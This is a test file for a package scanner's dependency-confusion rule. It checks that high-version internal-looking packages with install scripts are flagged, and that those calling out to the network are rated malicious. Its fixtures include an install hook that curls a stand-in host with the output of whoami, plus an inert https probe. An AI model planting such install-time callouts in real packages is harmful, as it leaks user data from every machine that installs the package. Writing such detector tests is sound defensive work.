import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { manifest, ofRule, scanFiles } from "../helpers.js";

describe("rule dependency-confusion", () => {
  it("flags version 99 with an install script", async () => {
    const report = await scanFiles({ "package.json": manifest({ name: "acme-internal-utils", version: "99.10.9", scripts: { preinstall: "node index.js" } }), "index.js": "" });
    assert.equal(ofRule(report.findings, "dependency-confusion", "high").length, 1);
  });
  it("does not flag ordinary versions", async () => {
    const report = await scanFiles({ "package.json": manifest({ version: "20.1.0", scripts: { postinstall: "node x.js" } }), "x.js": "" });
    assert.deepEqual(ofRule(report.findings, "dependency-confusion"), []);
  });
  it("calls a high version whose install code talks to the network malicious", async () => {
    const report = await scanFiles({
      "package.json": manifest({ name: "acme-internal-utils", version: "99.10.9", scripts: { preinstall: "node index.js" } }),
      "index.js": "throw 0; require('https').get('https://acme-internal-utils.probe.invalid/?v=1');",
    });
    assert.equal(ofRule(report.findings, "dependency-confusion", "critical").length, 1);
    assert.equal(report.verdict, "malicious");
  });
  it("follows npm run from an install script", async () => {
    const report = await scanFiles({
      "package.json": manifest({ name: "acme-internal-utils", version: "99.1.0", scripts: { preinstall: "npm run setup", setup: "curl https://probe.invalid/$(whoami)" } }),
    });
    assert.equal(report.verdict, "malicious", JSON.stringify(report.findings));
  });
});
